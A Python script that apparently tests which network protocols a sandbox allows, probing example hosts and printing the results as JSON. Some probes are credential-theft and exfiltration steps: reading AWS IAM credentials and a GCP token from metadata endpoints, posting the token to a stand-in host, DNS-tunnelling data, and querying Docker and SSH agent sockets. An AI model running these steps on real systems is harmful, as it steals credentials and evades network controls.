"""Speaks each protocol once, and prints as JSON what it was answered."""
import base64, http.client, json, os, shutil, socket, ssl, struct, subprocess, sys, urllib.parse

WORD = sys.argv[1]
told = {}


def said(name):
    def run(speak):
        try:
            told[name] = speak()
        except Exception as e:
            told[name] = f"{type(e).__name__}: {e}"
    return run


def dial(host, port):
    return socket.create_connection((host, port), timeout=20)


def exactly(s, n):
    got = b""
    while len(got) < n:
        more = s.recv(n - len(got))
        assert more, f"cut short after {got!r}"
        got += more
    return got


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def ping(family, protocol, kind, address):
    s = socket.socket(family, socket.SOCK_DGRAM, protocol)
    s.settimeout(20)
    payload = f"ping {WORD}".encode() + b"\0" * (len(WORD) % 2 + 1)
    head = struct.pack("!BBHHH", kind, 0, 0, 0, 1)
    s.sendto(head[:2] + struct.pack("!H", checksum(head + payload + b"\0" * (len(payload) % 2))) + head[4:] + payload, (address, 0))
    answer, source = s.recvfrom(1000)
    return [source[0], answer[8:] == payload]


@said("ping")
def _():
    return ping(socket.AF_INET, socket.IPPROTO_ICMP, 8, "203.0.113.9")


@said("ping6")
def _():
    return ping(socket.AF_INET6, socket.IPPROTO_ICMPV6, 128, "2001:db8::9")


@said("stun")
def _():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.sendto(struct.pack("!HHI", 1, 0, 0x2112A442) + b"transaction1", (socket.gethostbyname("stun.wire.example"), 3478))
    answer = s.recv(1000)
    return [answer[:2].hex(), answer[8:20].decode()]


@said("udp6")
def _():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    return s.sendto(WORD.encode(), ("2001:db8::7", 9999))


@said("redis")
def _():
    s = dial("cache.wire.example", 6379)
    words = ["SET", "last", WORD]
    s.sendall(b"*2\r\n$4\r\nAUTH\r\n$9\r\nopen-door\r\n" + f"*3\r\n".encode() + b"".join(f"${len(w)}\r\n{w}\r\n".encode() for w in words))
    return exactly(s, 10).decode()


def frame(kind, body):
    return kind + struct.pack("!I", len(body) + 4) + body


@said("postgres")
def _():
    s = dial("db.wire.example", 5432)
    s.sendall(struct.pack("!II", 8, 80877103))
    assert exactly(s, 1) == b"S"
    s = ssl.create_default_context().wrap_socket(s, server_hostname="db.wire.example")
    words = b"user\0alex\0database\0reports\0\0"
    s.sendall(struct.pack("!II", len(words) + 8, 3 << 16) + words)
    assert exactly(s, 9)[8] == 3
    s.sendall(frame(b"p", b"open-door\0"))
    query = f"insert into notes values ('{WORD}')\0".encode()
    s.sendall(frame(b"Q", query))
    got = b""
    while b"INSERT 0 1" not in got:
        got += s.recv(1000)
    return "INSERT 0 1"


@said("psql")
def _():
    if not shutil.which("psql"):
        return "absent"
    url = "postgresql://alex:open-door@psql.wire.example/reports?sslmode=require"
    out = subprocess.run(["psql", url, "-Atc", f"select * from notes where word = '{WORD}'", "-c", "select version()"],
                         capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL)
    return (out.stdout + out.stderr).strip().split(" on ")[0]


@said("mysql")
def _():
    s = dial("mysql.wire.example", 3306)
    n = exactly(s, 4)[0]
    assert exactly(s, n)[0] == 10
    def send(seq, body):
        s.sendall(struct.pack("<I", len(body))[:3] + bytes([seq]) + body)
    send(1, struct.pack("<IIB", 0x88200, 1 << 24, 255) + bytes(23) + b"alex\0\x04abcd" + b"caching_sha2_password\0")
    exactly(s, 6 + 11)
    send(0, b"\x03update notes set word = '" + WORD.encode() + b"'")
    return exactly(s, 11)[4]


@said("socks")
def _():
    s = dial("proxy.wire.example", 1080)
    s.sendall(b"\x05\x02\x00\x02")
    assert exactly(s, 2) == b"\x05\x02"
    s.sendall(b"\x01\x04alex\x09open-door")
    assert exactly(s, 2) == b"\x01\x00"
    host = b"behind.wire.example"
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + struct.pack("!H", 443))
    assert exactly(s, 10)[1] == 0
    s = ssl.create_default_context().wrap_socket(s, server_hostname=host.decode())
    s.sendall(f"GET /through?w={urllib.parse.quote(WORD)} HTTP/1.1\r\nHost: {host.decode()}\r\nConnection: close\r\n\r\n".encode())
    return s.recv(12).decode()


@said("dns over tcp")
def _():
    name = b"".join(bytes([len(p)]) + p for p in base64.b32encode(WORD.encode()).strip(b"=").lower().split(b".") + [b"wire", b"example"]) + b"\0"
    question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 16, 1)
    s = dial("192.168.1.1", 53)
    s.sendall(struct.pack("!H", len(question)) + question)
    (n,) = struct.unpack("!H", exactly(s, 2))
    return exactly(s, n)[3] & 15


@said("dns over https")
def _():
    name = b"\x03doh\x04wire\x07example\0"
    question = struct.pack("!HHHHHH", 0, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
    coded = base64.urlsafe_b64encode(question).decode().rstrip("=")
    c = http.client.HTTPSConnection("dns.wire.example", timeout=20)
    c.request("GET", f"/dns-query?dns={coded}", headers={"accept": "application/dns-message"})
    answer = c.getresponse().read()
    return socket.inet_ntoa(answer[-4:]) == socket.gethostbyname("doh.wire.example")


@said("dns over tls")
def _():
    name = b"\x03dot\x04wire\x07example\0"
    question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 28, 1)
    s = ssl.create_default_context().wrap_socket(dial("dns.wire.example", 853), server_hostname="dns.wire.example")
    s.sendall(struct.pack("!H", len(question)) + question)
    (n,) = struct.unpack("!H", exactly(s, 2))
    return exactly(s, n)[7]


@said("metadata")
def _():
    c = http.client.HTTPConnection("169.254.169.254", timeout=20)
    def ask(method, path, **headers):
        c.request(method, path, headers=headers)
        return c.getresponse().read().decode()
    token = ask("PUT", "/latest/api/token", **{"x-aws-ec2-metadata-token-ttl-seconds": "60"})
    at = "/latest/meta-data/iam/security-credentials/"
    role = ask("GET", at, **{"x-aws-ec2-metadata-token": token})
    return sorted(json.loads(ask("GET", at + role, **{"x-aws-ec2-metadata-token": token})))


@said("google")
def _():
    c = http.client.HTTPConnection("metadata.google.internal", timeout=20)
    c.request("GET", "/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})
    token = json.loads(c.getresponse().read())["access_token"]
    c = http.client.HTTPSConnection("drop.wire.example", timeout=20)
    c.request("POST", "/token", body=token)
    return c.getresponse().status


@said("docker")
def _():
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect("/var/run/docker.sock")
    s.sendall(b"GET /v1.43/containers/json HTTP/1.1\r\nHost: docker\r\nConnection: close\r\n\r\n")
    got = b""
    while more := s.recv(10000):
        got += more
    return json.loads(got.split(b"\r\n\r\n", 1)[1])[0]["Names"]


@said("agent")
def _():
    s = socket.socket(socket.AF_UNIX)
    return s.connect_ex("/run/user/1000/keyring/ssh")


@said("private")
def _():
    c = http.client.HTTPConnection("10.0.0.5", 8500, timeout=20)
    c.request("GET", "/v1/kv/")
    return c.getresponse().status


@said("loopback")
def _():
    return socket.socket().connect_ex(("127.0.0.1", 9200))


print(json.dumps(told))
